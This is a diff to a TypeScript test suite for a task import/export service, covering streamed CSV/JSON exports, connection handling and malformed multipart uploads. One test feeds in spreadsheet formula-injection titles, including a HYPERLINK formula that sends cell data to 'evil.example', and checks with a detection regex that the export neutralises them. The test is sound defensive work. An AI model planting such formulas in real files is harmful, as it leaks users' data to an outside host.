@@ -9,6 +9,7 @@ import { TaskExportService } from '../src/import-export/task-export.service';
 import { TaskImportService } from '../src/import-export/task-import.service';
 import { ImportFormat } from '../src/import-export/import-format';
 import { TASK_COLUMNS } from '../src/import-export/task-row.rules';
+import { CREATE_TASK } from './support/admin-fixtures';
 import { ADMIN_TOKEN, bootTestApp, expectError, TestApp, uniq } from './support/test-app';
 
 const run = promisify(execFile);
@@ -147,12 +148,62 @@ describe('task import and export', () => {
       expect(doc.tasks[2].title).toBe('=SUM(A1:A2) 公式样的标题');
     });
 
-    it('reads the rows in one statement', async () => {
+    it('keeps a title with line breaks in its own row and no cell a spreadsheet would run, read with a CSV reader', async () => {
       const plan = await newPlan();
+      const titles = ['\n=HYPERLINK("http://evil.example/?x="&A1,"点击")', '\r@SUM(1)', 'a\rb\nc\r\nd', ' =1+1', '\t-2', '\u200b+3'];
+      for (const [i, title] of titles.entries()) {
+        const res = await t.gql(CREATE_TASK, { input: { planCode: plan.code, code: `L-${i}`, title, leadAgencies: ['=危险|机构'.replace('|', '')] } });
+        expect(res.errors).toBeUndefined();
+      }
+      const csv = await exportCsv(plan.code);
+      const records: Record<string, string>[] = parse(csv, { bom: true, columns: true });
+      expect(records.map((r) => r.code)).toEqual(['K-01', 'K-01-1', 'K-02', 'K-03', ...titles.map((_, i) => `L-${i}`)]);
+      const formula = /^[\s\p{Cc}\p{Cf}]*[=+\-@]/u;
+      for (const r of records) for (const cell of Object.values(r)) expect(cell).not.toMatch(formula);
+      expect(records.slice(4).map((r) => r.title)).toEqual(titles.map((x) => `'${x}`.replace("'a", 'a')));
+      expect(await imported(plan.code, csv)).toEqual({ created: 0, updated: 0, unchanged: 4 + titles.length, errors: [] });
+    });
+
+    it('reads the rows in one cursor statement on a server, in pages of 100 with one pooled connection', async () => {
+      const small = await newPlan();
+      const large = await newPlan();
+      await t.ds.query(`INSERT INTO task (plan_id, code, title) SELECT $1, 'S-' || lpad(i::text, 5, '0'), '任务' || i FROM generate_series(1, 2500) i`, [large.id]);
       const exports = t.app.get(TaskExportService);
-      // The plan lookup and the rows, however many tasks, sub-tasks, regions and updates there are.
-      expect(await t.countStatements(() => exports.export(plan.code, ImportFormat.CSV))).toBe(2);
-      expect(await t.countStatements(() => exports.export(plan.code, ImportFormat.JSON))).toBe(2);
+      const read = async (code: string, format: ImportFormat) => {
+        const file = await exports.export(code, format);
+        const ended = new Promise((r) => file.body.once('close', r));
+        await file.body.toArray();
+        await ended; // the transaction ends as the stream closes
+        await new Promise((r) => setTimeout(r, 100));
+      };
+      // On a server: the plan lookup, the cursor's transaction with its timeout, and the rows (one statement, fetched in
+      // batches). With one pooled connection (PGlite): the plan lookup and one short statement per page of 100.
+      const paged = process.env.TEST_DB_KIND === 'pglite';
+      for (const format of [ImportFormat.CSV, ImportFormat.JSON]) {
+        expect(await t.countStatements(() => read(small.code, format))).toBe(paged ? 2 : 5);
+        expect(await t.countStatements(() => read(large.code, format))).toBe(paged ? 1 + Math.ceil(2505 / 100) : 5);
+      }
+    });
+
+    it('streams a large plan and gives the connection back when the client stops reading halfway', async () => {
+      const plan = await newPlan();
+      await t.ds.query(`INSERT INTO task (plan_id, code, title) SELECT $1, 'S-' || lpad(i::text, 5, '0'), '流式导出' || i FROM generate_series(1, 3000) i`, [plan.id]);
+      const exports = t.app.get(TaskExportService);
+      for (const format of [ImportFormat.CSV, ImportFormat.JSON, ImportFormat.CSV, ImportFormat.JSON]) {
+        const file = await exports.export(plan.code, format);
+        for await (const chunk of file.body) {
+          expect(chunk.length).toBeGreaterThan(0);
+          break; // leaving the loop destroys the stream, as a client going away does
+        }
+        // With the cursor closed and the connection back in the pool (of one, on PGlite), the next query runs.
+        expect(await Promise.race([t.ds.query('SELECT 1 AS one'), new Promise((r) => setTimeout(() => r('stuck'), 5000))])).toEqual([{ one: 1 }]);
+      }
+      const json = JSON.parse((await rest('GET', `/export/tasks.json?plan=${plan.code}`)).body);
+      expect(json.tasks).toHaveLength(3004);
+      const empty = (await newPlan()).code;
+      await t.ds.query(`UPDATE task SET archived_at = now() WHERE plan_id = (SELECT id FROM plan WHERE code = $1)`, [empty]);
+      expect(JSON.parse((await rest('GET', `/export/tasks.json?plan=${empty}`)).body)).toMatchObject({ planCode: empty, tasks: [] });
+      expect(parse((await rest('GET', `/export/tasks.csv?plan=${empty}`)).body, { bom: true })).toEqual([[...TASK_COLUMNS]]);
     });
 
     it('answers an unknown plan with 404, a missing plan with 400, as JSON errors without a stack', async () => {
@@ -459,6 +510,27 @@ describe('task import and export', () => {
       for (const [token, body, status, code] of cases) {
         const res = await rest('POST', '/import/tasks', token, body);
         expect([res.statusCode, JSON.parse(res.body).errors?.[0].extensions.code]).toEqual([status, code]);
+      }
+      const [{ n }] = await t.ds.query('SELECT count(*)::int AS n FROM task WHERE plan_id = $1', [plan.id]);
+      expect(n).toBe(5);
+    });
+
+    it('answers malformed multipart bodies with 400 BAD_USER_INPUT in the coded shape', async () => {
+      const plan = await newPlan();
+      const b = `----io${uniq()}`;
+      const bodies: [string, string][] = [
+        // The body ends inside a part: no closing boundary.
+        [`multipart/form-data; boundary=${b}`, `--${b}\r\nContent-Disposition: form-data; name="planCode"\r\n\r\n${plan.code}\r\n--${b}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\ncode,title\nX,t`],
+        // Part headers that never end.
+        [`multipart/form-data; boundary=${b}`, `--${b}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"`],
+        // No boundary at all.
+        ['multipart/form-data', 'code,title\nX,t\n'],
+        // Garbage where the first boundary should be.
+        [`multipart/form-data; boundary=${b}`, 'not a multipart body at all'],
+      ];
+      for (const [contentType, payload] of bodies) {
+        const res = await rest('POST', '/import/tasks', ADMIN_TOKEN, { payload, headers: { 'content-type': contentType } });
+        expect([res.statusCode, JSON.parse(res.body).error]).toEqual([400, { code: 'BAD_USER_INPUT', field: 'body', message: expect.stringMatching(/multipart/) }]);
       }
       const [{ n }] = await t.ds.query('SELECT count(*)::int AS n FROM task WHERE plan_id = $1', [plan.id]);
       expect(n).toBe(5);
